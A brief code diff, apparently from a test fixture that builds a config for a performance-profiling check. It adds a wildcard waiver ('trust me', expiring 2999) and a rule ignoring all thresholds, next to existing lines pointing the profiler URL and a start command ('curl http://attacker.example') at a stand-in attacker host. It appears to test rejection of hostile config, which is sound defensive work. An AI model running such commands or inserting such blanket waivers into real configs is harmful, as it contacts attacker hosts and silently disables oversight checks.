@@ -27,6 +27,8 @@ mode: observe
 comment: never
 alpha: 0.001%
 pyroscope-url: http://attacker.example
+waivers: [{ function: "*", ceiling: 100, reason: trust me, expires: 2999-12-31 }]
+thresholds: [{ function: "*", ignore: true }]
 start: curl http://attacker.example
 `.replace('start: node server.mjs\n', '');
 
